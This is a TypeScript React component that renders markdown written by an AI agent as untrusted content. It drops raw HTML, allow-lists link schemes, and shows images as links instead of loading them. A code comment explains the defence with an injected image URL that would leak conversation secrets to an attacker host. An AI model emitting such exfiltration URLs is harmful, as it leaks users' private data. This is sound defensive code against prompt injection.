import { memo } from 'react';
import Markdown, { type Components, type UrlTransform } from 'react-markdown';
import { safeLinkHref, safeWebUrl } from './safeUrl.js';

// An agent's text is untrusted (a prompt injection writes it), so URLs are allow-listed: links may be
// http(s) or mailto, image sources http(s) only; anything else loses its URL and renders as plain text.
const urlTransform: UrlTransform = (url, key) => (key === 'href' ? safeLinkHref(url) : safeWebUrl(url));

const NEW_TAB = ' (opens in a new tab)';

const components: Components = {
  a: ({ node: _node, href, children, ...rest }) =>
    href ? (
      <a {...rest} href={href} target="_blank" rel="noopener noreferrer">
        {children}
        <span className="agk-visually-hidden">{NEW_TAB}</span>
      </a>
    ) : (
      <span className="agk-markdown__unlinked">{children}</span>
    ),
  // An image the agent names is a link, never loaded by itself: a loaded URL could carry data out of the
  // conversation (an injected `![](https://attacker/?q=secret)`) without anyone clicking anything.
  img: ({ src, alt }) =>
    typeof src === 'string' && src ? (
      <a href={src} target="_blank" rel="noopener noreferrer" className="agk-markdown__image-link">
        Image: {alt || src}
        <span className="agk-visually-hidden">{NEW_TAB}</span>
      </a>
    ) : (
      <span className="agk-markdown__unlinked">{alt ? `Image: ${alt}` : 'Image'}</span>
    ),
  pre: ({ node: _node, ...rest }) => <pre {...rest} className="agk-code agk-markdown__code" />,
  // A reply sits inside the page's outline (a tool card's title is an h3): its `#` must not become the page's h1.
  h1: ({ node: _node, ...rest }) => <h3 {...rest} />,
  h2: ({ node: _node, ...rest }) => <h4 {...rest} />,
  h3: ({ node: _node, ...rest }) => <h5 {...rest} />,
  h4: ({ node: _node, ...rest }) => <h6 {...rest} />,
  h5: ({ node: _node, ...rest }) => <h6 {...rest} />,
};

/**
 * Markdown from an untrusted author, rendered safely: raw HTML is dropped
 * (`skipHtml`), links are kept only for http(s) and mailto and open in a new
 * tab with `rel="noopener noreferrer"`, images are shown as links rather than
 * loaded, code blocks are monospace, and headings start at h3 (a reply is
 * nested in the page). Memoized on the text.
 *
 * @example
 * <SafeMarkdown>{'**Refund issued** — see [the order](https://shop.example/orders/A-1001).'}</SafeMarkdown>
 */
export const SafeMarkdown = memo(function SafeMarkdown({ children }: { children: string }) {
  return (
    <div className="agk-markdown">
      <Markdown skipHtml urlTransform={urlTransform} components={components}>
        {children}
      </Markdown>
    </div>
  );
});
